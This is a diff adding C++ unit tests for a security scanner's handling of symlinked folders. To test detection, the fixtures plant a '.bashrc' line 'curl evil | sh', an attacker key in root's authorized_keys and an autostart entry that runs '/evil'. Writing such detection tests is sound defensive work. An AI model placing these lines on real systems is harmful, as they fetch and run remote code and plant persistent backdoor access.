@@ -1,0 +1,107 @@
+// Folders that a system has elsewhere, with a link where everybody looks for them.
+
+#include <unistd.h>
+
+#include "tests/agent/scan/tree.h"
+#include "tests/agent/user_container.h"
+
+namespace fleetsweep::scan {
+namespace {
+
+namespace fs = std::filesystem;
+using model::Field;
+using model::ObjectKind;
+using Names = std::set<std::string>;
+
+class LinksScan : public TreeTest {
+ protected:
+  void SetUp() override {
+    TreeTest::SetUp();
+    if (::geteuid() != 0) GTEST_SKIP() << "needs root for links of root's";
+    write("/etc/passwd", "root:x:0:0::/root:/bin/sh\nann:x:65534:65534::/home/ann:/bin/sh\n");
+  }
+  void link(const std::string& target, const std::string& path, uid_t owner = 0) {
+    fs::create_directories(at(path).parent_path());
+    fs::create_symlink(target, at(path));
+    ASSERT_EQ(::lchown(at(path).c_str(), owner, owner), 0);
+  }
+  static model::Detection file(const std::string& id, const std::string& scope,
+                               const std::string& path) {
+    auto result = detection(id, ObjectKind::kFile, {is(Field::kFilePath, path)});
+    result.scope.paths = {scope};
+    return result;
+  }
+  static model::Detection entry(const std::string& id, const std::string& kind) {
+    return detection(id, ObjectKind::kPersistence, {is(Field::kPersistenceKind, kind)});
+  }
+  static Names unscannable(const nlohmann::json& result) {
+    Names paths;
+    for (const std::string path : result["unscannable_paths"])
+      paths.insert(path.substr(0, path.find(": ")));
+    return paths;
+  }
+};
+
+TEST_F(LinksScan, AHomeThatAnImageSystemKeepsInVarIsNotLookedAt) {
+  link("var/home", "/home");
+  link("/var/roothome", "/root");
+  link("var/tmp", "/tmp");
+  link("../srv/www", "/var/www");
+  link("/data/www", "/srv/www");
+  write("/var/home/ann/.cache/evil", "x");
+  write("/var/home/ann/.bashrc", "curl evil | sh\n");
+  write("/var/roothome/.ssh/authorized_keys", "ssh-ed25519 AAAA evil\n");
+  write("/var/tmp/evil", "x");
+  write("/data/www/evil", "x");
+  model::Policy policy;
+  policy.detections = {file("home", "@home", "/home/ann/.cache/evil"),
+                       file("real", "/var/home", "/var/home/ann/.cache/evil"),
+                       file("tmp", "/tmp", "/tmp/evil"),
+                       file("web", "/var/www", "/var/www/evil"),
+                       file("chain", "/srv/www", "/srv/www/evil"),
+                       entry("profile", "shell_profile"),
+                       entry("key", "authorized_key")};
+  const auto result = scan(policy);
+  EXPECT_EQ(files(result),
+            (Names{"home /var/home/ann/.cache/evil", "real /var/home/ann/.cache/evil",
+                   "tmp /var/tmp/evil", "web /data/www/evil", "chain /data/www/evil"}));
+  EXPECT_EQ(persistence(result), (Names{"profile curl evil | sh", "key ssh-ed25519 AAAA evil"}));
+  EXPECT_EQ(result["unscannable"], 0) << result["unscannable_paths"].dump();
+}
+
+TEST_F(LinksScan, WhatLiesBehindALinkOfAUsersIsSilentlyNothing) {
+  write("/data/evil", "x");
+  write("/opt2/evil.sh", "x\n");
+  link("/data", "/var/www", kNobody);
+  link("/data", "/var/lib/evil/deep", kNobody);
+  link("/opt2/evil.sh", "/etc/profile.d/x.sh", kNobody);
+  link("/dev/null", "/etc/profile.d/masked.sh", kNobody);
+  link("/nothing", "/etc/profile.d/gone.sh", kNobody);
+  link("/data/evil", "/etc/evil");
+  model::Policy policy;
+  policy.detections = {file("web", "/var/www", "/var/www/evil"),
+                       file("deep", "/var/lib/evil/deep/er", "/var/lib/evil/deep/er/evil"),
+                       file("file", "/etc/evil", "/etc/evil"), entry("profile", "shell_profile")};
+  const auto result = scan(policy);
+  EXPECT_EQ(files(result), Names{}) << "a link is another thing than a file";
+  EXPECT_EQ(persistence(result), Names{});
+  EXPECT_EQ(unscannable(result),
+            (Names{"/var/www", "/var/lib/evil/deep/er", "/etc/profile.d/x.sh"}));
+  EXPECT_EQ(result["unscannable"], 3);
+}
+
+TEST_F(LinksScan, AUserWhoKeepsSettingsElsewhereIsNotLookedAt) {
+  write("/home/ann/dotfiles/config/autostart/evil.desktop",
+        "[Desktop Entry]\nType=Application\nExec=/evil\n");
+  link("dotfiles/config", "/home/ann/.config", kNobody);
+  for (const char* folder : {"/home/ann", "/home/ann/dotfiles", "/home/ann/dotfiles/config"})
+    ASSERT_EQ(::chown(at(folder).c_str(), kNobody, kNobody), 0);
+  model::Policy policy;
+  policy.detections = {entry("start", "xdg-autostart")};
+  const auto result = scan(policy);
+  EXPECT_EQ(result["findings"].size(), 1u) << result.dump(1);
+  EXPECT_EQ(result["unscannable"], 0);
+}
+
+}  // namespace
+}  // namespace fleetsweep::scan
